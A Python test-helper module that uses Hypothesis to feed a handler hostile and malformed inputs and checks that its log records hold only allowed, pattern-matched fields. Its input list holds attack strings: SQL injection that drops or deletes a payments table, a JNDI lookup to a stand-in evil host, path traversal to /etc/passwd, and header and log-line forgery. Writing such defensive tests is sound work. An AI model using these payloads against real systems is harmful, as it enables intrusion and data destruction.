"""What somebody might send who means no good, or whose program has gone wrong."""

from __future__ import annotations

import logging
import re
from collections.abc import Iterable, Mapping
from typing import Any

from hypothesis import strategies as st

# What a load balancer passes to a function at most.
MEGABYTE = 2**20

TEXTS = st.one_of(
    st.sampled_from(
        [
            "'; DROP TABLE payments; --",
            'public.payments"; DELETE FROM "public"."payments',
            "public.payments AS r; SELECT pg_sleep(99)",
            "PUBLIC.PAYMENTS",
            "public.payments\n",
            "public.pa\u0443ments",  # a Cyrillic letter
            "public.payments\x00",
            "1\r\nset-cookie: forged=1",
            "\u2028ERROR forged",
            "\u202egnp.exe",
            "\ud800",
            "${jndi:ldap://evil.example}",
            "../../etc/passwd",
            "x" * 70_000,
        ]
    ),
    st.text(max_size=40),
)
SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), TEXTS, st.sampled_from([10**400, -(2**63), 1e308])
)
# What JSON can hold: what is none never comes as far as a function.
ANYTHING = st.recursive(
    SCALARS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3), max_leaves=8
)

_OWN = frozenset(vars(logging.makeLogRecord({}))) | {"message", "asctime"}


def said(records: Iterable[logging.LogRecord], allowed: Mapping[str, str]) -> set[str]:
    """The messages of a handler's log, each known to say nothing beside them but what is allowed, by its pattern."""
    messages = set()
    for record in records:
        if record.name != "handler":
            continue
        assert (record.args, record.exc_info) in {((), None), (None, None)}
        for name, value in _further(record).items():
            assert name in allowed, name
            assert re.fullmatch(allowed[name], str(value)), (name, value)
        messages.add(record.getMessage())
    return messages


def _further(record: logging.LogRecord) -> dict[str, Any]:
    return {name: value for name, value in vars(record).items() if name not in _OWN}
